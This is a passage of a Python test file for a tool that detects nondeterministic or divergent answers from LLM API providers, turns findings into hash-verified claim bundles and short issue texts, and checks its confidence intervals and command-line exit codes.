    alike: Callable[[Any, Any], bool] = bundle_figures.are_same
    assert not alike(of(" I", cut=True, tokens=1), of(" It", cut=True, tokens=1))
    assert alike(of(" I", cut=True, tokens=1), of(" I", cut=True, tokens=1))
    assert alike(of(" I", cut=True, tokens=1), of(" It", cut=True, tokens=2))
    assert alike(of(" I", cut=True), of(" It", cut=True))
    assert not alike(of(" I", cut=True, limit=1), of(" It", cut=True, limit=1)), "the limit that was asked for"
    assert alike(of(" I", cut=True, tokens=1), of(" It"))


# --- all parts of an answer ----------------------------------------------------------------------


def test_reasoning_that_differs_is_a_difference(tmp_path: Path) -> None:
    """The texts of a model that thinks may agree while what it computed does not; the page names the part."""
    given = [attempt("a", "p0", r, "one", reasoning=thought) for r, thought in enumerate(("aha", "aha", "hm"))]
    made = claim(run_of(tmp_path, given))
    text = made.files["CLAIM.md"].decode()
    assert "part in their reasoning, at character 1: U+0061 against U+0068 (of 3 and 2 characters)" in text
    assert "`a` 2 + 1 of 3" in text
    assert "reasoning stands in 3 of 3; blanks beside it are not compared." in text
    verify(made.files)
    forged = restated(dict(made.files), "responses/000002.body", '"hm"', '"aha"')
    with pytest.raises(bundle_figures.BrokenBundle, match="answer 2: its reasoning is not the one in"):
        verify(forged)


def test_reasoning_shown_now_and_then_is_a_difference(tmp_path: Path) -> None:
    """Of one provider a repeat with reasoning and one without are two answers to one request."""
    given = [attempt("a", "p0", r, "one", reasoning=thought) for r, thought in enumerate((None, "hm"))]
    assert "part in their reasoning, at character 1: the end against U+0068" in page(run_of(tmp_path, given))


def test_blanks_beside_reasoning_are_no_difference(tmp_path: Path) -> None:
    """A host that leaves the line breaks where it cut the reasoning out says what one says that takes them away."""
    thoughts = [("aha", "one"), ("\naha\n\n", "\n\none"), ("aha ", " one")]
    given = [attempt("a", "p0", r, text, reasoning=thought) for r, (thought, text) in enumerate(thoughts)]
    assert "no two answers to one request differ" in refusal(run_of(tmp_path / "same", given))
    other = attempt("a", "p0", 3, "\ntwo", reasoning="\naha")
    text = page(run_of(tmp_path / "other", [*given, other]))
    assert "part in their text, at character 1: U+006F against U+0074 (of 3 and 3 characters)" in text


def test_an_empty_answer_beside_a_text_is_a_difference(tmp_path: Path) -> None:
    """Silence where the same request has an answer is what a caller trips over first."""
    given = [attempt("a", "p0", 0, "one"), attempt("a", "p0", 1, "", kind="empty")]
    text = page(run_of(tmp_path, given))
    assert "part in their text, at character 1: U+006F against the end (of 3 and 0 characters)" in text
    assert "prompts on which its repeats differ: 1 of 1" in text


def test_a_refusal_beside_an_answer_is_a_difference(tmp_path: Path) -> None:
    """A refusal in words of its own is what the model said."""
    given = [attempt("a", "p0", 0, "one"), attempt("a", "p0", 1, "", refusal="I won't", kind="content_filter")]
    made = claim(run_of(tmp_path, given))
    assert "part in their text" in made.files["CLAIM.md"].decode()
    verify(made.files)
    unlike = [attempt("a", "p0", r, "", refusal=f"No, {r}", kind="content_filter") for r in range(2)]
    assert "part in their refusal, at character 5" in page(run_of(tmp_path / "two", unlike))


def test_an_answer_cut_within_its_reasoning_agrees_with_what_it_begins(tmp_path: Path) -> None:
    """What was not reached differs from nothing, neither the rest of the reasoning nor the text behind it."""
    given = [
        attempt("a", "p0", 0, "", reasoning="let me", kind="length", tokens=2),
        attempt("a", "p0", 1, "one", reasoning="let me see"),
        attempt("a", "p0", 2, "o", reasoning="let me see", kind="length", tokens=4),
    ]
    assert "no two answers to one request differ" in refusal(run_of(tmp_path, given))


def test_who_shows_reasoning_is_compared_by_what_both_show(tmp_path: Path) -> None:
    """A host that hides its reasoning differs in what it shows, which is said, and not in what it answers."""
    same = dict.fromkeys(VARIED, ("one", "one", "one", "one"))
    thinking = [attempt("a", p, r, t, reasoning=f"{p} {r}") for p, texts in same.items() for r, t in enumerate(texts)]
    silent = answers("b", same)
    assert "on no prompt does the commonest answer" in refusal(run_of(tmp_path / "same", [*thinking, *silent]), CROSS)
    other = answers("b", dict.fromkeys((f"p{i}" for i in range(3)), ("another",) * 4))
    made = claim(run_of(tmp_path / "other", [*thinking, *other]), CROSS)
    text = made.files["CLAIM.md"].decode()
    assert "Only one of `a` and `b` ever shows its reasoning; the two are compared by what both show" in text
    assert "part in their text" in text
    assert "`a` 4 of 4, `b` 4 of 4" in text
    verify(made.files)


def test_an_interval_never_rounds_to_certainty() -> None:
    """Wilson's and Jeffreys' intervals by their published example, 1 of 10; and an edge that stays an edge."""
    shares: Callable[[Any], str] = bundle_figures.format_share
    assert shares([1] + [0] * 9) == "0.100 [0.011, 0.382] over 10 prompts"
    assert shares([True] + [False] * 9) == "1 of 10, 0.100 [0.017, 0.405] over 10 prompts"
    assert shares([1.0] * 10) == "1.000 [0.741, 1.000] over 10 prompts"
    assert shares([1.0] * 9999 + [0.9]).startswith("0.999 ")
    assert shares([0.5]) == "0.500 over 1 prompt"
    assert shares([]) == "not measured"


@pytest.mark.parametrize("seed", range(40))
def test_a_figure_has_one_interval_everywhere(seed: int) -> None:
    """Whoever holds a bundle beside its report must not find two intervals for one figure."""
    dice = random.Random(seed)
    n = dice.choice((2, 3, 7, 40, 300))
    kinds = ([True, False], [0.0, 1.0], [0.0, 1 / 3, 1.0], [1.0], [0.9, 1.0])
    values = [dice.choice(kinds[seed % len(kinds)]) for _ in range(n)]
    counts = all(isinstance(v, bool) for v in values)
    share = wilson_proportion(sum(map(bool, values)), n) if counts else share_over_prompts(np.array(values))
    excess = divergence_over_prompts(np.array([float(v) / 2 for v in values]))
    for text, estimate in (
        (bundle_figures.format_share(values), share),
        (bundle_figures.format_excess([float(v) / 2 for v in values]), excess),
    ):
        shown = [float(x) for x in re.findall(r"-?\d\.\d{3}", text)]
        assert shown[-2:] == pytest.approx([estimate.low, estimate.high], abs=1.01e-3), text


# --- from a finding to its bundle ----------------------------------------------------------------


def test_a_finding_of_the_report_becomes_a_claim(tmp_path: Path) -> None:
    """Each finding that the report states can be proven from the same records."""
    texts = {f"p{i}": [f"text {i}"] * 4 for i in range(6)}
    mine = {**texts, "p0": ["text 0", "other 0"] * 2}
    given = [*answers("a", mine), *answers("b", {p: [t.upper() for t in given] for p, given in texts.items()})]
    opened = run_of(tmp_path, given, prompts=6)
    found = analyse(opened).findings
    rules = [f.rule for f in found if f.rule in ("nondeterministic", "differs")]
    assert sorted(rules) == ["differs", "nondeterministic"]
    for number, finding in enumerate(found, start=1):
        if finding.rule in rules:
            made = claim(opened, claims.accuse_by_finding(found, number))
            assert verify(dict(made.files)).startswith("holds")
    with pytest.raises(UsageError, match="which finding"):
        claims.accuse_by_finding(found)
    with pytest.raises(UsageError, match="--finding 9 cannot be claimed"):
        claims.accuse_by_finding(found, 9)


def test_a_deviation_from_the_reference_calls_it_a_yardstick(run: Run) -> None:
    """The reference is not the truth, and a claim that rests on it says so."""
    accusation = Accusation(rule="deviates_from_reference", subject="a", others=("b",), p_value=0.004)
    text = page(run, accusation)
    assert text.startswith("# `a` gives other texts than the reference `b` at temperature zero")
    assert "Each side was asked in `one` session" in text
    assert "a yardstick, not the truth" in text
    assert "corrected for all pairs it tested (Holm), has p = `0.004`" in text


def outline_of(made: Bundle) -> list[str]:
    claimed = json.loads(made.files["claim.json"])
    answers = verify_bundle.read_answers(made.files, claimed)
    lines: list[str] = write_outline(describe_subject(claimed, answers))
    return lines


def test_only_figures_have_digits(bundle: Bundle) -> None:
    """Words that state a number of their own could not be recomputed."""
    for line in outline_of(bundle):
        assert not re.search(r"\d", re.sub(r"{[^{}]*}", "", line).replace("`python3 -I", ""))


def test_every_figure_says_how_it_is_computed(bundle: Bundle) -> None:
    """claim.json has the legend: a way to each figure of the page."""
    value = json.loads(bundle.files["claim.json"])
    assert value["how"].keys() == set(re.findall(r"{([^{}]*)}", "\n".join(outline_of(bundle))))
    assert all(value["how"].values())


def test_the_page_names_endpoint_and_load(bundle: Bundle) -> None:
    """What an engineer asks first: where to, with what, when, at what load, which ids."""
    text = bundle.files["CLAIM.md"].decode()
    for part in (
        URL,
        "`chatcmpl-a-0-2-1`",
        "in flight `1`",
        "Fri, 02 Jan 2026 03:04:05 GMT",
        "at least since `2026-01-02T03:04:02.000+00:00`",
        "prompt tokens `12`",
    ):
        assert part in text


# --- on the command line -------------------------------------------------------------------------


def test_claim_and_verify_on_the_command_line(run: Run, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The root hash on the screen is the one in the bundle; exit codes: 0 it holds, 2 it does not."""
    out = tmp_path / "proof.zip"
    accused = ["--rule", "nondeterministic", "--provider", "a"]
    assert cli.main(["claim", str(run.path), *accused, "--out", str(out)]) == 0
    root = capsys.readouterr().out.strip().rpartition(" ")[2]
    assert root == claim(run).root
    assert cli.main(["verify", str(out)]) == 0
    assert root in capsys.readouterr().out
    out.write_bytes(out.read_bytes().replace(b"1 of 3", b"3 of 3"))
    assert cli.main(["verify", str(out)]) == 2
    shown = capsys.readouterr()
    assert (shown.out, shown.err.count("\n")) == ("", 1)
    assert "FAILED" in shown.err
    assert cli.main(["verify", str(run.path)]) == 0
    assert "the chain holds" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("accused", "why"),
    [
        (["--rule", "nondeterministic", "--provider", "b"], "does not prove determinism"),
        (["--rule", "nondeterministic"], "name either"),
        (["--rule", "differs", "--provider", "a", "--against", "b"], "claim it with --finding"),
        (["--rule", "differs-from-all", "--provider", "a", "--against", "b"], "names too many or too few others"),
        (["--finding", "99"], "cannot be claimed"),
        (["--rule", "nondeterministic", "--provider", "a", "--out", "/nowhere/proof.zip"], "cannot be written"),
    ],
)
def test_what_cannot_be_claimed_exits_2(
    accused: list[str], why: str, run: Run, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """No file is written, and one line says why."""
    out = tmp_path / "proof.zip"
    assert cli.main(["claim", str(run.path), "--out", str(out), *accused]) == 2
    assert why in capsys.readouterr().err
    assert not out.exists()


def test_a_claim_ready_to_paste_is_short(run: Run, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An issue that nobody reads to its end helps nobody: asked what, how often, where, how to ask and verify."""
    for accusation in (SELF, CROSS, replace(CROSS, rule="deviates_from_reference")):
        made = claim(run, accusation)
        lines = claims.write_issue_text(made)
        assert len(lines) <= 15
        assert len("\n".join(lines)) < 1_500
        assert all("\n" not in line for line in lines)
        text = "\n".join(lines)
        for part in (made.title, made.root, hash_checker(), "curl -sS -X POST", "python3 -I", "at character"):
            assert part in text
    out = tmp_path / "proof.zip"
    accused = ["--rule", "nondeterministic", "--provider", "a", "--issue"]
    assert cli.main(["claim", str(run.path), *accused, "--out", str(out)]) == 0
    assert capsys.readouterr().out.count("\n") <= 15
